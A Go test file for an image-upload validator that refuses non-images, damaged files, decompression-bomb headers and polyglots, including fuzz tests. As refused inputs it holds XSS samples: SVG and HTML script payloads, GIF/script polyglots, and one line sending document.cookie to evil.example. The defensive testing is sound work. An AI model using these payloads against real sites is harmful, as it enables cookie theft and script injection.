package media

import (
	"bytes"
	"image"
	"image/color"
	"image/gif"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/newsdesk/newsdesk/internal/news"
)

func TestCheckAccepts(t *testing.T) {
	paletted := image.NewPaletted(image.Rect(0, 0, 30, 20), color.Palette{color.Black, color.White})
	tests := []struct {
		name string
		data []byte
		want Info
	}{
		{"jpeg", encodeJPEG(t, gradient(64, 48)), Info{"image/jpeg", 64, 48}},
		{"grey jpeg", encodeJPEG(t, image.NewGray(image.Rect(0, 0, 9, 7))), Info{"image/jpeg", 9, 7}},
		{"png", encodePNG(t, gradient(33, 17)), Info{"image/png", 33, 17}},
		{"1x1 png", encodePNG(t, image.NewNRGBA(image.Rect(0, 0, 1, 1))), Info{"image/png", 1, 1}},
		{"gif", encodeGIF(t, paletted), Info{"image/gif", 30, 20}},
		{"webp", losslessWebP(40, 30, color.NRGBA{200, 10, 10, 255}), Info{"image/webp", 40, 30}},
		{"webp with alpha", losslessWebP(3, 2, color.NRGBA{200, 10, 10, 100}), Info{"image/webp", 3, 2}},
		{"exactly the limits", encodePNG(t, image.NewGray(image.Rect(0, 0, 64, 48))), Info{"image/png", 64, 48}},
	}
	lim := Limits{MaxPixels: 64 * 48, MaxSide: 64}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Check(tt.data, lim)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			if got != tt.want {
				t.Errorf("Check = %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestCheckRefuses(t *testing.T) {
	jpg := encodeJPEG(t, gradient(64, 48))
	pngData := encodePNG(t, gradient(64, 48))
	badCRC := bytes.Clone(pngData)
	badCRC[len(badCRC)-20] ^= 0xff
	manyScans := beforeSOS(t, jpg, bytes.Repeat([]byte{0xff, 0xda, 0x00, 0x02}, maxJPEGScans+1))
	animated := riff("VP8X", []byte{0x02, 0, 0, 0, 9, 0, 0, 9, 0, 0})

	tests := []struct {
		name string
		data []byte
		lim  Limits
		want string // in the message
	}{
		{"empty", nil, Limits{}, "is empty"},
		{"svg with script", []byte(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`), Limits{}, "(it looks like SVG)"},
		{"html named .jpg", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), Limits{}, "(it looks like HTML)"},
		{"script", []byte("  <script>fetch('//evil.example/'+document.cookie)</script>"), Limits{}, "(it looks like HTML)"},
		{"pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), Limits{}, "(it looks like a PDF document)"},
		{"heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), Limits{}, "HEIC"},
		{"text", []byte("just some words\n"), Limits{}, "is not a JPEG, PNG, GIF or WebP image (it looks like text)"},
		{"binary junk", []byte{0, 1, 2, 3, 0xfe, 0xfd}, Limits{}, "is not a JPEG, PNG, GIF or WebP image"},
		{"too many bytes", jpg, Limits{MaxBytes: 100}, "; the limit is 100 bytes"},
		{"too many pixels", pngHeader(50000, 50000), Limits{}, "is 50000 x 50000 pixels; the limit is 50 megapixels"},
		{"custom pixel limit", pngData, Limits{MaxPixels: 1500}, "is 64 x 48 pixels; the limit is 0.0015 megapixels"},
		{"too wide", pngHeader(13000, 10), Limits{}, "is 13000 x 10 pixels; the limit is 12000 pixels on a side"},
		{"no pixels", pngHeader(0, 10), Limits{}, "is damaged"},
		{"truncated jpeg", jpg[:len(jpg)/2], Limits{}, "is damaged: it ends too soon"},
		{"jpeg header only", jpg[:3], Limits{}, "is damaged"},
		{"truncated png", pngData[:len(pngData)-30], Limits{}, "is damaged"},
		{"png with a bad checksum", badCRC, Limits{}, "is damaged"},
		{"png header without pixels", pngHeader(10, 10), Limits{}, "is damaged"},
		{"gif header then script", []byte("GIF89a<script>alert('gif')</script>"), Limits{}, "pixels; the limit is"},
		{"gif header then comment", []byte("GIF89a\x01\x00\x01\x00/*alert('gif')*/"), Limits{}, "is damaged"},
		{"jpeg of many scans", manyScans, Limits{}, "scans; the limit is 100"},
		{"animated webp", animated, Limits{}, "animated WebP"},
		{"riff header only", []byte("RIFF\x04\x00\x00\x00WEBP"), Limits{}, "is damaged"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Check(tt.data, tt.lim)
			if err == nil {
				t.Fatal("Check accepted it")
			}
			if code := news.ErrorCode(err); code != news.EINVALID {
				t.Errorf("code = %q, want %q (%v)", code, news.EINVALID, err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("message = %q, want it to contain %q", err, tt.want)
			}
		})
	}
}

// TestCheckHugeHeaderIsCheap shows that a file claiming more pixels than the
// limits is refused from its header, before any pixel memory is taken.
func TestCheckHugeHeaderIsCheap(t *testing.T) {
	for _, data := range [][]byte{
		pngHeaderAndData(11000, 11000),
		pngHeaderAndData(8000, 8000),
		riff("VP8X", []byte{0, 0, 0, 0, 0x3f, 0x9c, 0, 0x3f, 0x9c, 0}), // 40000 x 40000
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		_, err := Check(data, DefaultLimits())
		took := time.Since(start)
		runtime.ReadMemStats(&after)
		if err == nil || !strings.Contains(err.Error(), "megapixels") {
			t.Errorf("Check = %v, want the pixel limit", err)
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 1<<20 {
			t.Errorf("Check allocated %d bytes", alloc)
		}
		if took > time.Second {
			t.Errorf("Check took %v", took)
		}
	}
}

func TestCheckGIFFrameSmallerThanScreen(t *testing.T) {
	// A logical screen of 20 x 10 whose only frame is 4 x 3 at (5, 2).
	frame := image.NewPaletted(image.Rect(5, 2, 9, 5), color.Palette{color.Black, color.White})
	var buf bytes.Buffer
	err := gif.EncodeAll(&buf, &gif.GIF{Image: []*image.Paletted{frame}, Delay: []int{0},
		Config: image.Config{Width: 20, Height: 10, ColorModel: frame.Palette}})
	if err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	d, err := check(data, DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	if got := d.img.Bounds(); got != image.Rect(0, 0, 20, 10) {
		t.Errorf("bounds = %v, want the whole screen", got)
	}
}

func TestTypeFromName(t *testing.T) {
	tests := []struct{ name, want string }{
		{"photo.jpg", "image/jpeg"},
		{"PHOTO.JPEG", "image/jpeg"},
		{"a.b.c.Png", "image/png"},
		{"anim.gif", "image/gif"},
		{"x.webp", "image/webp"},
		{`C:\Users\me\IMG_0001.HEIC`, "image/heic"},
		{"drawing.svg", "image/svg+xml"},
		{"notes.txt", ""},
		{"jpg", ""},
		{"archive.jpg/", ""},
		{"", ""},
	}
	for _, tt := range tests {
		if got := TypeFromName(tt.name); got != tt.want {
			t.Errorf("TypeFromName(%q) = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestJPEGMeta(t *testing.T) {
	jpg := encodeJPEG(t, gradient(16, 16))
	tests := []struct {
		name            string
		data            []byte
		scans, oriented int
	}{
		{"plain", jpg, 1, 1},
		{"exif 6", jpegSegment(jpg, 0xe1, exifPayload(6, "x")), 1, 6},
		{"exif 8", jpegSegment(jpg, 0xe1, exifPayload(8, "x")), 1, 8},
		{"exif 0 is ignored", jpegSegment(jpg, 0xe1, exifPayload(0, "x")), 1, 1},
		{"exif 9 is ignored", jpegSegment(jpg, 0xe1, exifPayload(9, "x")), 1, 1},
		{"xmp, not exif", jpegSegment(jpg, 0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00<x/>")), 1, 1},
		{"cut exif", jpegSegment(jpg, 0xe1, exifPayload(6, "x")[:20]), 1, 1},
		{"more scans", beforeSOS(t, jpg, []byte{0xff, 0xda, 0, 2, 0xff, 0xda, 0, 2}), 3, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			scans, o := jpegMeta(tt.data)
			if scans != tt.scans || o != tt.oriented {
				t.Errorf("jpegMeta = %d scans, orientation %d; want %d, %d", scans, o, tt.scans, tt.oriented)
			}
		})
	}
}

func FuzzCheck(f *testing.F) {
	f.Add(encodeJPEG(f, gradient(8, 8)))
	f.Add(jpegSegment(encodeJPEG(f, gradient(8, 4)), 0xe1, exifPayload(6, "x")))
	f.Add(encodePNG(f, gradient(8, 8)))
	f.Add(encodeGIF(f, image.NewPaletted(image.Rect(0, 0, 4, 4), color.Palette{color.Black, color.White})))
	f.Add(losslessWebP(4, 4, color.NRGBA{1, 2, 3, 4}))
	f.Add(riff("VP8X", []byte{0x10, 0, 0, 0, 3, 0, 0, 3, 0, 0}))
	f.Add(pngHeader(50000, 50000))
	f.Add([]byte("GIF89a<script>alert(1)</script>"))
	f.Add([]byte("<svg/onload=alert(1)>"))
	lim := Limits{MaxBytes: 1 << 20, MaxPixels: 1 << 20, MaxSide: 2048}
	f.Fuzz(func(t *testing.T, data []byte) {
		d, err := check(data, lim)
		if err != nil {
			if news.ErrorCode(err) != news.EINVALID {
				t.Fatalf("error %v is not EINVALID", err)
			}
			return
		}
		switch d.Type {
		case "image/jpeg", "image/png", "image/gif", "image/webp":
		default:
			t.Fatalf("type %q", d.Type)
		}
		if d.Width <= 0 || d.Height <= 0 || d.Width > lim.MaxSide || d.Height > lim.MaxSide ||
			int64(d.Width)*int64(d.Height) > lim.MaxPixels {
			t.Fatalf("accepted %d x %d", d.Width, d.Height)
		}
		if d.img.Bounds() != image.Rect(0, 0, d.Width, d.Height) {
			t.Fatalf("pixels %v for %d x %d", d.img.Bounds(), d.Width, d.Height)
		}
		if d.orientation < 1 || d.orientation > 8 {
			t.Fatalf("orientation %d", d.orientation)
		}
		// What Put does next must not fail on anything Check lets through.
		w, h := max(1, d.Width/3), max(1, d.Height/3)
		small, _ := resize(d.img, w, h)
		for _, typ := range []string{"image/jpeg", "image/png"} {
			if _, err := encode(typ, orient(small, d.orientation)); err != nil {
				t.Fatal(err)
			}
		}
	})
}

func FuzzJPEGMeta(f *testing.F) {
	jpg := encodeJPEG(f, gradient(8, 8))
	f.Add(jpg)
	f.Add(jpegSegment(jpg, 0xe1, exifPayload(6, "x")))
	f.Add(jpegSegment(jpg, 0xe1, exifPayload(3, "x"))[:40])
	f.Fuzz(func(t *testing.T, data []byte) {
		scans, o := jpegMeta(data)
		if scans < 0 || scans > len(data)/4 || o < 1 || o > 8 {
			t.Fatalf("jpegMeta = %d, %d", scans, o)
		}
	})
}
